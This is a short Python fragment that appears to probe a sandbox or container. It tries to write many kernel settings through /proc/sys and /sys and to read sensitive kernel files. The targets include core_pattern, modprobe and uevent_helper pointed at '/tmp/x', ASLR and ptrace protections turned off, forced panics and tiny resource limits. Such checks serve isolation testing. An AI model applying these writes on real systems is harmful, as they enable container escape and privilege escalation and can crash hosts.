KNOBS = {
    "kernel/core_pattern": "|/tmp/x",
    "kernel/modprobe": "/tmp/x",
    "kernel/hotplug": "/tmp/x",
    "kernel/sysrq": "1",
    "vm/drop_caches": "3",
    "vm/panic_on_oom": "1",
    "vm/overcommit_memory": "1",
    "kernel/panic": "1",
    "kernel/unprivileged_bpf_disabled": "0",
    "kernel/kptr_restrict": "0",
    "kernel/dmesg_restrict": "0",
    "kernel/yama/ptrace_scope": "0",
    "kernel/perf_event_paranoid": "-1",
    "fs/suid_dumpable": "2",
    "fs/protected_symlinks": "0",
    "fs/file-max": "1",
    "kernel/threads-max": "20",
    "user/max_user_namespaces": "0",
    "fs/inotify/max_user_watches": "1",
    "kernel/randomize_va_space": "0",
    "vm/swappiness": "1",
    "kernel/printk": "7",
    "dev/tty/ldisc_autoload": "1",
    "kernel/usermodehelper/bset": "0 0",
    "fs/mount-max": "1",
}
mount("proc", "/tmp/proc", "proc")
for root in ("/proc", "/tmp/proc", "/proc/1/root/proc"):
    for knob, value in KNOBS.items():
        attempt(f"{root} {knob}", lambda: write(f"{root}/sys/{knob}", value))
    attempt(f"{root} sysrq-trigger", lambda: write(f"{root}/sysrq-trigger", "h"))
    for name in (
        "kcore",
        "kmsg",
        "kpageflags",
        "kpagecount",
        "iomem-x",
        "timer_list-x",
        "sched_debug-x",
        "vmcore",
        "keys-x",
    ):
        attempt(
            f"{root} read {name}", lambda: os.read(os.open(f"{root}/{name}", os.O_RDONLY | os.O_NONBLOCK), 10)
        )
for path, value in {
    "/sys/kernel/uevent_helper": "/tmp/x",
    "/sys/power/state": "mem",
    "/sys/kernel/mm/ksm/run": "1",
    "/sys/module/kernel/parameters/panic": "1",
    "/sys/kernel/mm/transparent_hugepage/enabled": "never",
}.items():
    attempt(path, lambda: write(path, value))
print("END")
